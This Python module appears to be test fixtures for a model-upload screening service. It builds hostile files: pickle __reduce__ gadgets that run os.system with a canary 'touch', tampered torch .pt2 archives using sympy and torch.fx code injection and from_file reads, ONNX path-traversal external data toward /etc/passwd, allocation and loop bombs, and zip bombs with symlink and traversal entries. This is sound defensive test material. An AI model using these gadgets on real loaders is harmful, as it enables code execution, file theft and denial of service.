"""Hostile (and one benign) upload payloads, built from scratch with fixed seeds.

Every builder writes one file and returns its path. ONNX models are assembled with
`onnx.helper` (no torch export), so building them costs milliseconds.
"""

import io
import os
import pickle
import stat
import struct
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

INPUT_SHAPE = [1, 3, 8, 8]


def _tiny_graph(weight: np.ndarray | None = None, input_shape: list[Any] | None = None) -> Any:
    """Conv(3→4, 3x3) → Relu → GlobalAveragePool → Flatten: a valid, seeded ONNX graph."""
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.default_rng(0)
    w = rng.standard_normal((4, 3, 3, 3)).astype(np.float32) if weight is None else weight
    shape = input_shape or ["batch", 3, 8, 8]
    nodes = [
        helper.make_node("Conv", ["image", "w"], ["c"], pads=[1, 1, 1, 1]),
        helper.make_node("Relu", ["c"], ["r"]),
        helper.make_node("GlobalAveragePool", ["r"], ["p"]),
        helper.make_node("Flatten", ["p"], ["logits"]),
    ]
    return helper.make_graph(
        nodes,
        "tiny",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, shape)],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, [shape[0], 4])],
        [numpy_helper.from_array(w, "w")],
    )


def _save_model(graph: Any, path: Path, opset: int = 17) -> Path:
    from onnx import helper

    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)])
    model.ir_version = 8
    path.write_bytes(model.SerializeToString())
    return path


def tiny_onnx(path: Path) -> Path:
    """A valid model: the control that must be accepted."""
    return _save_model(_tiny_graph(), path)


def random_bytes(path: Path, size: int = 4096) -> Path:
    path.write_bytes(np.random.default_rng(7).bytes(size))
    return path


def empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def truncated_onnx(path: Path) -> Path:
    data = tiny_onnx(path).read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def onnx_external_data(path: Path, location: str = "weights.bin") -> Path:
    """The conv weight stored outside the file, at `location` (e.g. a path traversal)."""
    from onnx import TensorProto

    graph = _tiny_graph()
    tensor = graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "432")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return _save_model(graph, path)


def onnx_non_finite(path: Path, value: float = float("nan")) -> Path:
    w = np.random.default_rng(0).standard_normal((4, 3, 3, 3)).astype(np.float32)
    w[1, 2, 0, 0] = value
    return _save_model(_tiny_graph(weight=w), path)


def onnx_huge_input(path: Path) -> Path:
    """A declared input of 3 x 100000 x 100000 floats (120 GB at batch 1)."""
    return _save_model(_tiny_graph(input_shape=["batch", 3, 100_000, 100_000]), path)


def onnx_huge_initializer(path: Path) -> Path:
    """An initializer that declares 10^12 elements but carries a few bytes."""
    graph = _tiny_graph()
    tensor = graph.initializer[0]
    del tensor.dims[:]
    tensor.dims.extend([1_000_000, 1_000_000])
    return _save_model(graph, path)


def onnx_allocation_bomb(path: Path) -> Path:
    """Valid graph whose first run asks for 2^40 floats (ConstantOfShape), far over the
    inspector's memory cap."""
    from onnx import TensorProto, helper, numpy_helper

    shape = numpy_helper.from_array(np.array([1 << 20, 1 << 20], dtype=np.int64), "shape")
    nodes = [
        helper.make_node(
            "ConstantOfShape",
            ["shape"],
            ["big"],
            value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0]),
        ),
        helper.make_node("ReduceSum", ["big"], ["s"], keepdims=0),
        helper.make_node("Add", ["image", "s"], ["logits"]),
    ]
    graph = helper.make_graph(
        nodes,
        "bomb",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, [1, 3, 8, 8])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, [1, 3, 8, 8])],
        [shape],
    )
    return _save_model(graph, path)


def onnx_endless_loop(path: Path) -> Path:
    """A Loop with a 2^62 trip count whose body does real work: first-running it never ends."""
    from onnx import TensorProto, helper, numpy_helper

    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Sin", ["acc_in"], ["acc_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [1, 3, 8, 8]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [1, 3, 8, 8]),
        ],
    )
    graph = helper.make_graph(
        [helper.make_node("Loop", ["trips", "cond", "image"], ["logits"], body=body)],
        "endless",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, [1, 3, 8, 8])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, [1, 3, 8, 8])],
        [
            numpy_helper.from_array(np.array(1 << 62, dtype=np.int64), "trips"),
            numpy_helper.from_array(np.array(True), "cond"),
        ],
    )
    return _save_model(graph, path)


def onnx_crashing_runtime(path: Path) -> Path:
    """ConvTranspose with `group=0`: found by a seeded fuzz of convolution and pooling
    attributes, it kills onnxruntime (1.31) with SIGFPE, a division by zero in native
    code, when the model is first run."""
    from onnx import TensorProto, helper, numpy_helper

    w = np.random.default_rng(0).standard_normal((3, 4, 3, 3)).astype(np.float32)
    nodes = [
        helper.make_node("ConvTranspose", ["image", "w"], ["c"], group=0),
        helper.make_node("GlobalAveragePool", ["c"], ["p"]),
        helper.make_node("Flatten", ["p"], ["logits"]),
    ]
    graph = helper.make_graph(
        nodes,
        "crash",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, [1, 3, 8, 8])],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, [1, 4])],
        [numpy_helper.from_array(w, "w")],
    )
    return _save_model(graph, path)


def fuzzed_onnx(path: Path, seed: int) -> Path:
    """The tiny model with a few bytes overwritten at seeded random positions."""
    data = bytearray(tiny_onnx(path).read_bytes())
    rng = np.random.default_rng(seed)
    for pos in rng.integers(0, len(data), size=6):
        data[int(pos)] = int(rng.integers(0, 256))
    path.write_bytes(bytes(data))
    return path


# --- pickles ----------------------------------------------------------------------------


class _WritesCanary:
    """Unpickling this runs `os.system("touch <canary>")` (the classic __reduce__ gadget)."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.canary}",))


def canary_pickle(path: Path, canary: Path, protocol: int = 4) -> Path:
    path.write_bytes(pickle.dumps({"weight": _WritesCanary(canary)}, protocol=protocol))
    return path


def canary_torch_zip(path: Path, canary: Path) -> Path:
    """A genuine torch.save zip archive whose data.pkl was swapped for the canary pickle
    (the CVE-2025-32434 shape: weights_only alone must not be the only guard)."""
    import torch

    torch.save({"w": torch.zeros(2)}, path)
    with zipfile.ZipFile(path) as src:
        members = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w") as dst:
        for info, data in members:
            if info.filename.endswith("data.pkl"):
                data = pickle.dumps({"w": _WritesCanary(canary)}, protocol=2)
            dst.writestr(info, data)
    return path


def canary_torch_legacy(path: Path, canary: Path) -> Path:
    """torch.save's legacy (non-zip) format carrying the gadget."""
    import torch

    torch.save({"w": _WritesCanary(canary)}, path, _use_new_zipfile_serialization=False)
    return path


def pickled_module(path: Path) -> Path:
    """A whole nn.Module saved with torch.save: loading it needs arbitrary globals."""
    import torch
    from torch import nn

    torch.manual_seed(0)
    torch.save(nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU()), path)
    return path


def state_dict(path: Path) -> Path:
    """Weights only, no code: needs `arch`."""
    import torch

    torch.save({"weight": torch.ones(2, 2)}, path)
    return path


def safetensors_absurd(path: Path) -> Path:
    """A safetensors header that declares a 10^12-element tensor over 16 bytes of data."""
    import json

    header = json.dumps(
        {"w": {"dtype": "F32", "shape": [1_000_000, 1_000_000], "data_offsets": [0, 16]}}
    ).encode()
    path.write_bytes(struct.pack("<Q", len(header)) + header + b"\0" * 16)
    return path


def bare_npy(path: Path) -> Path:
    buf = io.BytesIO()
    np.save(buf, np.zeros((2, 2), dtype=np.float32))
    path.write_bytes(buf.getvalue())
    return path


# --- datasets ---------------------------------------------------------------------------


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 20, 30)).save(buf, format="PNG")
    return buf.getvalue()


def _zip_with(path: Path, special: zipfile.ZipInfo, data: bytes = b"x") -> Path:
    png = _png()
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("cats/a.png", png)
        zf.writestr("dogs/b.png", png)
        zf.writestr(special, data)
    return path


def zip_symlink(path: Path) -> Path:
    info = zipfile.ZipInfo("cats/link.png")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    info.create_system = 3
    return _zip_with(path, info, b"/etc/passwd")


def zip_absolute(path: Path) -> Path:
    return _zip_with(path, zipfile.ZipInfo("/tmp/evil/c.png"), _png())


def zip_parent(path: Path) -> Path:
    return _zip_with(path, zipfile.ZipInfo("cats/../../evil.png"), _png())


def zip_device(path: Path) -> Path:
    info = zipfile.ZipInfo("cats/dev.png")
    info.external_attr = (stat.S_IFCHR | 0o666) << 16
    info.create_system = 3
    return _zip_with(path, info, b"")


def zip_many_members(path: Path, count: int = 100_001) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(count):
            zf.writestr(f"c/{i}", b"")
    return path


def zip_bomb(path: Path, size: int = 24 << 20) -> Path:
    """One member of `size` zero bytes: deflates better than 1000:1."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("cats/a.png", _png())
        with zf.open("dogs/zeros.png", "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(size >> 20):
                member.write(chunk)
    return path


def zip_forged_sizes(path: Path, members: int = 3, declared: int = 0x7FFF0000) -> Path:
    """Members whose central-directory sizes claim ~2 GiB each (over 4 GiB together) at a
    harmless-looking ratio: the total must be refused before anything is read."""
    with zipfile.ZipFile(path, "w") as zf:
        for i in range(members):
            zf.writestr(f"c{i}/x.png", bytes(64))
    data = bytearray(path.read_bytes())
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        # compressed size at +20, uncompressed size at +24 (little-endian uint32)
        struct.pack_into("<II", data, pos + 20, declared // 50, declared)
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))
    return path


def npz_object_x(path: Path) -> Path:
    x = np.empty((4, 3), dtype=object)
    x[:] = "a"
    np.savez(path, x=x)
    return path


def npz_object_y(path: Path) -> Path:
    np.savez(
        path,
        x=np.zeros((4, 3, 8, 8), dtype=np.float32),
        y=np.array([1, "a", None, 2], dtype=object),
    )
    return path


def truncated_zip(path: Path) -> Path:
    zip_absolute(path)
    ok = path.with_suffix(".ok.zip")
    with zipfile.ZipFile(ok, "w") as zf:
        zf.writestr("cats/a.png", _png())
    data = ok.read_bytes()
    ok.unlink()
    path.write_bytes(data[: len(data) - 30])
    return path


# --- screening: hostile .pt2 archives ----------------------------------------------------
#
# Each starts from a genuine torch.export archive of a tiny CNN and edits what an attacker
# controls: the JSON that tells torch.export.load how to read the members, and the members.


def _small_cnn() -> Any:
    """Conv → BN → ReLU(inplace) → pool → Linear, plus a tensor constant (a plain tensor
    attribute, which torch.export stores under data/constants/)."""
    import torch
    from torch import nn

    class SmallCNN(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.conv = nn.Conv2d(3, 4, 3, padding=1)
            self.bn = nn.BatchNorm2d(4)
            self.act = nn.ReLU(inplace=True)
            self.fc = nn.Linear(4, 2)
            self.offset = torch.ones(2)  # neither parameter nor buffer: a tensor constant

        def forward(self, x: Any) -> Any:
            y = self.act(self.bn(self.conv(x)))
            return self.fc(y.mean((2, 3))) + self.offset

    torch.manual_seed(0)
    return SmallCNN().eval()


def pt2_small_cnn(path: Path, dynamic: bool = True) -> Path:
    """The control: a genuine archive that must load."""
    import torch

    example = (torch.randn(2 if dynamic else 1, *INPUT_SHAPE[1:]),)
    shapes = ({0: torch.export.Dim("batch", min=1, max=64)},) if dynamic else None
    program = torch.export.export(_small_cnn(), example, dynamic_shapes=shapes)
    torch.export.save(program, str(path))
    return path


def _pt2_members(path: Path) -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        root = names[0].split("/", 1)[0]
        return root, {n.split("/", 1)[1]: zf.read(n) for n in names}


def _pt2_write(path: Path, root: str, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members.items():
            zf.writestr(f"{root}/{name}", data)
    return path


def _pt2_edit(path: Path, edit: Any) -> Path:
    """Rebuild the archive at `path` after `edit(members)` changed its members in place
    (JSON members are handed over parsed and written back)."""
    import json

    root, members = _pt2_members(path)
    parsed = {n: json.loads(d) for n, d in members.items() if n.endswith(".json")}
    edit(members, parsed)
    for name, obj in parsed.items():
        members[name] = json.dumps(obj).encode()
    return _pt2_write(path, root, members)


def _gadget(canary: Path) -> bytes:
    return pickle.dumps(_WritesCanary(canary), protocol=2)


def pt2_pickled_weight(path: Path, canary: Path) -> Path:
    """A weight marked `use_pickle: true` whose record is a code-running pickle:
    torch.export.load hands it to torch.load(weights_only=False)."""
    pt2_small_cnn(path)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        config = parsed["data/weights/model_weights_config.json"]["config"]
        meta = config["conv.weight"]
        meta["use_pickle"] = True
        members["data/weights/" + meta["path_name"]] = _gadget(canary)

    return _pt2_edit(path, edit)


def pt2_pickled_constant(path: Path, canary: Path) -> Path:
    """The same through the tensor constant (data/constants/tensor_N, use_pickle)."""
    pt2_small_cnn(path)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        config = parsed["data/constants/model_constants_config.json"]["config"]
        meta = next(iter(config.values()))
        meta["use_pickle"] = True
        members["data/constants/" + meta["path_name"]] = _gadget(canary)

    return _pt2_edit(path, edit)


def pt2_object_constant(path: Path, canary: Path, prefix: str = "opaque_obj_") -> Path:
    """A constant stored as an opaque object (`pickle.loads` on load) or, with prefix
    `custom_obj_`, a torchbind object (torch's own unpickler)."""
    pt2_small_cnn(path)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        config = parsed["data/constants/model_constants_config.json"]["config"]
        config["evil"] = {
            "path_name": f"{prefix}0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        members[f"data/constants/{prefix}0"] = _gadget(canary)

    return _pt2_edit(path, edit)


def pt2_extra_pickle_member(path: Path, canary: Path, name: str = "data/weights/w0") -> Path:
    """A code-running pickle under an innocent member name that no config mentions."""
    pt2_small_cnn(path)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        members[name] = _gadget(canary)

    return _pt2_edit(path, edit)


def pt2_sample_inputs_gadget(path: Path, canary: Path) -> Path:
    """The sample inputs (a torch.save archive that torch.load reads, retrying without
    weights_only when that fails) swapped for one whose pickle runs code."""
    pt2_small_cnn(path)
    inner = path.with_suffix(".inputs.pt")
    canary_torch_zip(inner, canary)
    data = inner.read_bytes()
    inner.unlink()

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        members["data/sample_inputs/model.pt"] = data

    return _pt2_edit(path, edit)


def _first_node(program: dict[str, Any], target: str) -> dict[str, Any]:
    nodes = program["graph_module"]["graph"]["nodes"]
    return next(n for n in nodes if n["target"] == target)


def pt2_from_file(path: Path, victim: Path, shared: bool = False) -> Path:
    """The graph's ReLU replaced by `aten::from_file(victim)` (read; with shared=True the
    later in-place ReLU writes through the mapping into the file)."""
    pt2_small_cnn(path, dynamic=False)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        node = _first_node(parsed["models/model.json"], "torch.ops.aten.relu_.default")
        node["target"] = "torch.ops.aten.from_file.default"
        node["inputs"] = [
            {"name": "filename", "arg": {"as_string": str(victim)}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": shared}, "kind": 1},
            {"name": "size", "arg": {"as_int": 4 * 8 * 8}, "kind": 1},
            {"name": "dtype", "arg": {"as_scalar_type": 7}, "kind": 1},
        ]

    return _pt2_edit(path, edit)


def pt2_inplace_on_input(path: Path) -> Path:
    """`x.add_(1)` on the user's input, as torch.export's TRAINING dialect keeps it."""
    import torch
    from torch import nn

    class Mutates(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.conv = nn.Conv2d(3, 4, 3)

        def forward(self, x: Any) -> Any:
            x.add_(1)
            return self.conv(x)

    program = torch.export.export(Mutates().eval(), (torch.randn(*INPUT_SHAPE),))
    torch.export.save(program, str(path))
    return path


def pt2_inplace_on_parameter(path: Path) -> Path:
    """The in-place ReLU pointed at the conv weight through a view of it (`t`), so that
    running the graph would overwrite a parameter."""
    pt2_small_cnn(path, dynamic=False)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        graph = parsed["models/model.json"]["graph_module"]["graph"]
        relu = _first_node(parsed["models/model.json"], "torch.ops.aten.relu_.default")
        view = {
            "target": "torch.ops.aten.alias.default",
            "name": "weight_view",
            "inputs": [
                {"name": "self", "arg": {"as_tensor": {"name": "p_conv_weight"}}, "kind": 1}
            ],
            "outputs": [{"as_tensor": {"name": "weight_view"}}],
            "metadata": {},
            "is_hop_single_tensor_return": None,
        }
        graph["tensor_values"]["weight_view"] = graph["tensor_values"]["p_conv_weight"]
        graph["nodes"].insert(graph["nodes"].index(relu), view)
        relu["inputs"][0]["arg"] = {"as_tensor": {"name": "weight_view"}}

    return _pt2_edit(path, edit)


def pt2_sympy_injection(path: Path, canary: Path) -> Path:
    """A shape expression that `sympy.sympify` would evaluate as Python."""
    pt2_small_cnn(path)

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        values = parsed["models/model.json"]["graph_module"]["graph"]["tensor_values"]
        first = next(iter(values.values()))
        first["sizes"][0] = {
            "as_expr": {
                "expr_str": f"__import__('os').system('touch {canary}')",
                "hint": {"as_int": 2},
            }
        }

    return _pt2_edit(path, edit)


def pt2_name_injection(path: Path, canary: Path) -> Path:
    """A value name that torch.fx pastes into the Python source it compiles (the ReLU's
    output renamed everywhere it appears)."""
    import json

    pt2_small_cnn(path)
    injected = f"relu_ = __import__('os').system('touch {canary}'); relu_"

    def edit(members: dict[str, bytes], parsed: dict[str, Any]) -> None:
        text = json.dumps(parsed["models/model.json"])
        parsed["models/model.json"] = json.loads(text.replace('"relu_"', json.dumps(injected)))

    return _pt2_edit(path, edit)


# --- screening: hostile ONNX models ------------------------------------------------------


def _external(tensor: Any, location: str) -> Any:
    from onnx import TensorProto

    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "4")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def _external_constant(output: str, location: str) -> Any:
    from onnx import TensorProto, helper

    value = helper.make_tensor("leak", TensorProto.FLOAT, [1], [0.0])
    return helper.make_node("Constant", [], [output], value=_external(value, location))


def _save_tiny_plus(
    path: Path,
    extra_nodes: list[Any],
    functions: list[Any] | None = None,
    opsets: list[tuple[str, int]] | None = None,
) -> Path:
    """The tiny model whose logits get `+ bias` where `bias` comes from `extra_nodes`."""
    from onnx import helper

    graph = _tiny_graph()
    graph.node[-1].output[0] = "flat"
    graph.node.extend([*extra_nodes, helper.make_node("Add", ["flat", "bias"], ["logits"])])
    imports = [helper.make_opsetid(d, v) for d, v in (opsets or [("", 17)])]
    model = helper.make_model(graph, opset_imports=imports, functions=functions or [])
    model.ir_version = 8
    path.write_bytes(model.SerializeToString())
    return path


def _if_node(output: str, branch_nodes: list[Any], name: str) -> Any:
    from onnx import TensorProto, helper

    out = helper.make_tensor_value_info(output, TensorProto.FLOAT, [1])
    branch = helper.make_graph(branch_nodes, name, [], [out])
    return helper.make_node("If", ["cond"], [output], then_branch=branch, else_branch=branch)


def onnx_function_if_external(path: Path, location: str = "../../../../etc/passwd") -> Path:
    """External data hidden in an If branch inside a local function."""
    from onnx import TensorProto, helper

    cond = helper.make_node(
        "Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])
    )
    body = [
        cond,
        _if_node(
            "out",
            [_external_constant("x", location), helper.make_node("Identity", ["x"], ["out"])],
            "branch",
        ),
    ]
    function = helper.make_function(
        "local.lib", "Leak", [], ["out"], body, [helper.make_opsetid("", 17)]
    )
    return _save_tiny_plus(
        path,
        [helper.make_node("Leak", [], ["bias"], domain="local.lib")],
        [function],
        [("", 17), ("local.lib", 1)],
    )


def onnx_sparse_external(path: Path, location: str = "weights.bin") -> Path:
    """A sparse initializer whose values are external data."""
    from onnx import TensorProto, helper

    values = _external(helper.make_tensor("bias_values", TensorProto.FLOAT, [1], [0.0]), location)
    indices = helper.make_tensor("bias_indices", TensorProto.INT64, [1], [0])
    path = _save_tiny_plus(path, [])
    from onnx import load_model_from_string

    model = load_model_from_string(path.read_bytes())
    model.graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [4]))
    model.graph.sparse_initializer[0].values.name = "bias"
    path.write_bytes(model.SerializeToString())
    return path


def onnx_constant_external(path: Path, location: str = "weights.bin") -> Path:
    """A Constant node's `value` attribute stored as external data."""
    return _save_tiny_plus(path, [_external_constant("bias", location)])


def onnx_loop_external(path: Path, location: str = "weights.bin") -> Path:
    """External data in a Loop body (two levels: Loop → If → Constant)."""
    from onnx import TensorProto, helper, numpy_helper

    inner_if = _if_node(
        "v",
        [_external_constant("x", location), helper.make_node("Identity", ["x"], ["v"])],
        "inner",
    )
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Identity", ["cond_in"], ["cond"]),
            inner_if,
            helper.make_node("Add", ["acc_in", "v"], ["acc_out"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [1]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [1]),
        ],
    )
    nodes = [
        helper.make_node(
            "Constant", [], ["trips"], value=numpy_helper.from_array(np.array(1, dtype=np.int64))
        ),
        helper.make_node("Constant", [], ["go"], value=numpy_helper.from_array(np.array(True))),
        helper.make_node(
            "Constant", [], ["zero"], value=numpy_helper.from_array(np.zeros(1, np.float32))
        ),
        helper.make_node("Loop", ["trips", "go", "zero"], ["bias"], body=body),
    ]
    return _save_tiny_plus(path, nodes)


def onnx_custom_domain(path: Path, domain: str = "com.example.evil") -> Path:
    """A node from a domain that only a custom-op library (loaded code) would implement."""
    from onnx import helper

    node = helper.make_node("ReadFile", [], ["bias"], domain=domain, path="/etc/passwd")
    return _save_tiny_plus(path, [node], opsets=[("", 17), (domain, 1)])


def onnx_expand_bomb(path: Path, elements_log2: int = 30) -> Path:
    """A few hundred bytes whose first run expands a scalar to 2^30 floats (4 GiB)."""
    from onnx import TensorProto, helper, numpy_helper

    side = 1 << (elements_log2 // 3)
    rest = 1 << (elements_log2 - 2 * (elements_log2 // 3))
    shape = numpy_helper.from_array(np.array([side, side, rest], dtype=np.int64), "shape")
    one = numpy_helper.from_array(np.ones(1, dtype=np.float32), "one")
    nodes = [
        helper.make_node("Expand", ["one", "shape"], ["big"]),
        helper.make_node("ReduceSum", ["big"], ["s"], keepdims=0),
        helper.make_node("Add", ["image", "s"], ["logits"]),
    ]
    graph = helper.make_graph(
        nodes,
        "expand_bomb",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, INPUT_SHAPE)],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, INPUT_SHAPE)],
        [shape, one],
    )
    return _save_model(graph, path)
